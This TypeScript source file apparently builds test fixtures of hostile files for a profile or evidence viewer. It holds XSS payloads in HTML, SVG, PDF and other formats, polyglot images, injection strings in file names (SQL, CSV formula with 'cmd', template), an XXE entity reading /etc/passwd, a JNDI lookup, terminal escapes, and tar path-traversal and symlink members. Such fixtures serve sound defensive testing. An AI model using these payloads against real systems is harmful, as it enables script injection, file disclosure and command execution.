import { gzipSync } from 'node:zlib'
import type { DroppedFile } from './evidence'
import { text } from './evidence'

/** A file that attempts to run code or to escape its path, with a description of the attempt. */
export type Hostile = DroppedFile & { tries: string }

/** A payload that reports its execution and opens a dialog. */
const call = (id: string) => `hostile('${id}'),alert('${id}')`
/** Markup without `;`, `/` and `"`, valid in a file name, frame, comm and attribute. */
const tag = (id: string) => `<img src=x data-hostile=${id} onerror=hostile('${id}')>`
const script = (id: string) => `<script data-hostile="${id}">${call(id)}</script>`
const FAR = 'http://canary.invalid'
export const RLO = '\u202e'
const ESCAPE = '\u001b'

let made: Hostile[] = []
const add = (path: string, tries: string, content: string | Buffer) =>
  made.push(typeof content === 'string' ? { ...text(path, content), tries } : { path, content, tries })

/** Samples of one stack with the given comm, symbol and module. */
const perfScript = (comm: string, symbol: string, module: string) =>
  `${comm}  4242 [001]  100.000001:     250000 cycles: \n\tffffffff810a1b2c ${symbol}+0x1c (${module})\n\tffffffff810a1b00 do_syscall_64+0x5b ([kernel.kallsyms])\n\n`.repeat(3)
const trace = (name: string) =>
  JSON.stringify({ traceEvents: [0, 1, 2].map((at) => ({ name, cat: 'x', ph: 'X', ts: at * 1000, dur: 900, pid: 1, tid: 1 })) })
const speedscope = (name: string) =>
  JSON.stringify({
    $schema: 'https://www.speedscope.app/file-format-schema.json',
    shared: { frames: [{ name }, { name: 'main', file: `javascript:${call('speedscope-file')}` }] },
    profiles: [{ type: 'sampled', name, unit: 'none', startValue: 0, endValue: 2, samples: [[1, 0], [1]], weights: [1, 1] }],
  })

function tar(members: [name: string, content: string, type?: string, link?: string][]): Buffer {
  const blocks = members.flatMap(([name, content, type = '0', link = '']) => {
    const body = Buffer.from(content)
    const head = Buffer.alloc(512)
    head.write(name, 0, 100)
    head.write('0000644\u00000000000\u00000000000\u0000', 100)
    head.write(`${body.length.toString(8).padStart(11, '0')}\0${'0'.repeat(11)}\0        ${type}`, 124)
    head.write(link, 157, 100)
    head.write('ustar\u000000', 257)
    head.write(tag('tar-owner').slice(0, 31), 265, 32)
    head.write(`${head.reduce((sum, byte) => sum + byte, 0).toString(8).padStart(6, '0')}\0 `, 148)
    return [head, body, Buffer.alloc((512 - (body.length % 512)) % 512)]
  })
  return Buffer.concat([...blocks, Buffer.alloc(1024)])
}

function crc32(bytes: Buffer): number {
  let crc = ~0
  for (const byte of bytes) {
    crc ^= byte
    for (let bit = 0; bit < 8; bit += 1) crc = (crc >>> 1) ^ (crc & 1 ? 0xedb88320 : 0)
  }
  return ~crc >>> 0
}

function zip(members: [name: string, content: string][]): Buffer {
  let offset = 0
  const parts = members.map(([name, content]) => {
    const [label, body] = [Buffer.from(name), Buffer.from(content)]
    const common = Buffer.alloc(26)
    common.writeUInt16LE(20, 0)
    common.writeUInt16LE(0x0800, 2)
    common.writeUInt32LE(crc32(body), 10)
    common.writeUInt32LE(body.length, 14)
    common.writeUInt32LE(body.length, 18)
    common.writeUInt16LE(label.length, 22)
    const local = Buffer.concat([Buffer.from('PK\u0003\u0004'), common, label, body])
    const rest = Buffer.alloc(14)
    rest.writeUInt32LE(offset, 10)
    offset += local.length
    return { local, central: Buffer.concat([Buffer.from('PK\u0001\u0002\u0014\0'), common, rest, label]) }
  })
  const central = Buffer.concat(parts.map((part) => part.central))
  const end = Buffer.alloc(22)
  end.write('PK\u0005\u0006')
  end.writeUInt16LE(members.length, 8)
  end.writeUInt16LE(members.length, 10)
  end.writeUInt32LE(central.length, 12)
  end.writeUInt32LE(offset, 16)
  return Buffer.concat([...parts.map((part) => part.local), central, end])
}

function documents(): void {
  add('active/page.html', 'script in HTML', `<!doctype html><title>x</title>${script('html')}`)
  add('active/handler.htm', 'a handler that focus calls', `<input autofocus data-hostile=focus onfocus="${call('focus')}">`)
  add('active/refresh.html', 'a redirection to javascript:', `<meta http-equiv=refresh content="0;url=javascript:${call('refresh')}">`)
  add('active/base.html', 'another base address and a form', `<base href=${FAR}><form action=/x><button autofocus>x</button></form>${tag('base')}`)
  add('active/frame.html', 'a frame with its own document', `<iframe srcdoc="${script('srcdoc').replaceAll('"', '&quot;')}"></iframe>`)
  add('active/page.xhtml', 'script in XHTML', `<html xmlns="http://www.w3.org/1999/xhtml"><script>${call('xhtml')}</script></html>`)
  add('active/image.svg', 'script in SVG', `<svg xmlns="http://www.w3.org/2000/svg"><script>${call('svg')}</script></svg>`)
  add('active/load.svg', 'a handler that loading calls', `<svg xmlns="http://www.w3.org/2000/svg" onload="${call('svg-load')}"/>`)
  add('active/foreign.svg', 'HTML inside SVG', `<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><body xmlns="http://www.w3.org/1999/xhtml">${tag('foreign')}</body></foreignObject></svg>`)
  add('active/use.svg', 'SVG that fetches from elsewhere', `<svg xmlns="http://www.w3.org/2000/svg"><image href="${FAR}/svg"/><style>@import "${FAR}/css";</style></svg>`)
  add('active/sheet.xml', 'a style sheet that writes script', `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="data:text/xml,${encodeURIComponent(script('xslt'))}"?><x/>`)
  add('active/entity.xml', 'an external entity', `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>`)
  add('active/document.pdf', 'script in PDF', `%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert('pdf'))>>>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF`)
  add('active/archive.mht', 'HTML in a MIME archive', `MIME-Version: 1.0\nContent-Type: text/html\n\n${script('mht')}`)
  add('active/worker.js', 'a service worker', `self.onfetch=()=>{};${call('worker')}`)
  add('active/sheet.css', 'style that fetches', `@import "${FAR}/css";body{background:url(${FAR}/background)}`)
}

function polyglots(): void {
  add('polyglot/image.gif', 'GIF that is script', `GIF89a=1;${call('gif')}`)
  add('polyglot/photo.jpg', 'JPEG with HTML in its comment', Buffer.concat([Buffer.from('ffd8fffe0080', 'hex'), Buffer.from(script('jpeg'))]))
  add('polyglot/picture.png', 'PNG with HTML behind it', Buffer.concat([Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex'), Buffer.from(script('png'))]))
  add('polyglot/paper.pdf.html', 'PDF that is HTML', `%PDF-1.4\n<!--\n-->${script('pdf-html')}\n%%EOF`)
  add('polyglot/wide.html', 'HTML in UTF-16', Buffer.concat([Buffer.from('fffe', 'hex'), Buffer.from(script('utf16'), 'utf16le')]))
  add('polyglot/seven.html', 'HTML in UTF-7', `+ADw-script+AD4-${call('utf7')}+ADw-/script+AD4-`)
  add('polyglot/packed.svg.gz', 'SVG in gzip', gzipSync(`<svg xmlns="http://www.w3.org/2000/svg" onload="${call('svgz')}"/>`))
  add('polyglot/stacks.html', 'HTML that is folded stacks', `main;<!--;${tag('folded-html')} 4\n`)
}

function names(): void {
  const stacks = 'main;read 3\n'
  add(`${tag('name')}.folded`, 'markup as a name', stacks)
  add(`"><svg onload=hostile('name-svg')>.folded`, 'a name that ends an attribute', `${stacks}main 1\n`)
  add(`names/${tag('path')}/x.folded`, 'markup as a folder', `${stacks}main 2\n`)
  add(`names/javascript:hostile('scheme').txt`, 'a name that is an address', 'text 1\n')
  add(`names/report${RLO}fdp.exe.txt`, 'a name that shows backwards', 'text 2\n')
  add('names/\u2066perf\u2069\u200b\ufeff.txt', 'a name with invisible characters', 'text 3\n')
  add('names/%3Cimg src=x onerror=hostile(1)%3E.txt', 'a name in percent signs', 'text 4\n')
  add(`names/{{constructor.constructor('hostile(1)')()}}.txt`, 'a name that is a template', 'text 5\n')
  add("names/=cmd|' !A0.csv", 'a name that is a formula', 'a,b\n1,2\n')
  add('names/@SUM(1+1)*cmd.csv', 'a name that is a formula of another kind', 'a,b\n3,4\n')
  add(`names/${'a'.repeat(240)}.txt`, 'a name of 244 characters', 'text 6\n')
  add("names/';drop table evidence;--.txt", 'a name that is SQL', 'text 7\n')
}

function readings(): void {
  add('read/frames.folded', 'markup as frames', `main;${tag('frame')};read 5\nmain;${script('frame-script')} 2\n`)
  add('read/end.folded', 'frames that end a script and a style', `main;</script><script>hostile(1)</script> 5\nmain;</style><style>*{display:none} 2\n`)
  add('read/proto.folded', 'frames named as what objects inherit', `__proto__;constructor;toString 5\n__proto__;hasOwnProperty 2\n`)
  add('read/links.folded', 'frames that are addresses', `javascript:hostile(1);data:text/html,x 5\n\u2028;\u2029;${RLO}kcatta 1\n`)
  add('read/comm.perf.script', 'markup as the name of a process', perfScript(tag('comm').slice(0, 15), 'read', 'x.so'))
  add('read/symbol.perf.script', 'markup as a symbol', perfScript('cat', tag('symbol'), 'x.so'))
  add('read/module.perf.script', 'markup as a module', perfScript('cat', 'read', tag('module')))
  add('read/bpftrace.txt', 'markup as keys and stacks', `Attaching 1 probe...\n\n@us[${tag('key')}]: \n[1, 2)                 3 |@@@@@@@@@@|\n[2, 4)                 1 |@@@       |\n\n@[\n    ${tag('kstack')}+12\n    do_syscall_64+91\n]: 7\n`)
  add('read/dmesg.txt', 'markup and terminal escapes in a log', `[    1.000001] ${tag('dmesg')}\n[    2.000001] ${ESCAPE}]8;;javascript:hostile(1)${ESCAPE}\\here${ESCAPE}]8;;${ESCAPE}\\ ${ESCAPE}[2J${ESCAPE}[31m\n[    3.000001] BUG: soft lockup - CPU#1 stuck for 22s! [${tag('lockup')}:42]\n`)
  add('proc/cmdline', 'markup as a parameter of the kernel', `BOOT_IMAGE=x ${tag('cmdline')}\n`)
  add('proc/version', 'markup as a version', `Linux version 5.15.0-${tag('version')} (x@y) (gcc) #1 SMP\n`)
  add('read/trace.json', 'markup as events', trace(tag('event')))
  add('read/x.speedscope.json', 'markup as frames and profiles', speedscope(tag('speedscope')))
  add('read/top.txt', 'markup as a command of top', `top - 10:00:00 up 1 day,  1 user,  load average: 1.00, 1.00, 1.00\nTasks:   1 total,   1 running,   0 sleeping,   0 stopped,   0 zombie\n\n    PID USER      PR  NI    VIRT    RES    SHR S  %CPU  %MEM     TIME+ COMMAND\n     42 root      20   0    1000    100     10 R  99.0   0.1   0:01.00 ${tag('command')}\n`)
}

function texts(): void {
  add('text/notes.md', 'links and images of Markdown', `[x](javascript:hostile(1)) ![x](x" onerror="hostile(1)) <a href="data:text/html,x">x</a> ${tag('markdown')}\n`)
  add('text/table.csv', 'formulas in cells', `=HYPERLINK("${FAR}","x"),+1+cmd|' /C calc'!A0,@SUM(1)\n`)
  add('text/end.json', 'the end of a script inside JSON', JSON.stringify({ x: '</script>' + script('json') }))
  add('text/callback.json', 'JSON that calls', `${call('jsonp')}\n`)
  add('text/lookup.txt', 'look-ups of loggers and templates', `\${jndi:ldap://canary.invalid/x} {{7*7}} <%= 7*7 %> #{7*7}\n`)
  add('text/nul.txt', 'control characters', `a\u0000b\u0007\b\b\b${tag('control')}\u0085\u009b31m\n`)
}

function archives(): void {
  add('packed/names.tar.gz', 'markup as names of members', gzipSync(tar([[`"><b data-hostile="member">${tag('member')}.folded`, 'main;read 9\n'], ['proc/loadavg', '0.10 0.20 0.30 1/200 4242\n']])))
  add('packed/escape.tar', 'members that leave the archive', tar([['../../../tmp/hostile', 'x\n'], ['/etc/hostile', 'x\n'], ['proc/loadavg', '0.11 0.20 0.30 1/200 4242\n']]))
  add('packed/links.tar', 'members that are links', tar([['proc/version', '', '2', '/etc/passwd'], ['proc/uptime', '', '1', '../../etc/passwd'], ['proc/loadavg', '0.12 0.20 0.30 1/200 4242\n']]))
  add('packed/pages.zip', 'pages as members', zip([['index.html', script('zip')], [`a${RLO}b.folded`, `main;${tag('zip-frame')} 3\n`]]))
}

/** All hostile files. */
export function hostileFiles(): readonly Hostile[] {
  made = []
  for (const part of [documents, polyglots, names, readings, texts, archives]) part()
  return made
}

/** A hostile process name in perf output. */
export const HOSTILE_COMM = tag('process')

/** A hostile case title. */
export const HOSTILE_TITLE = `${tag('title')}<svg onload="${call('title-svg')}"> [x](javascript:hostile(1))`
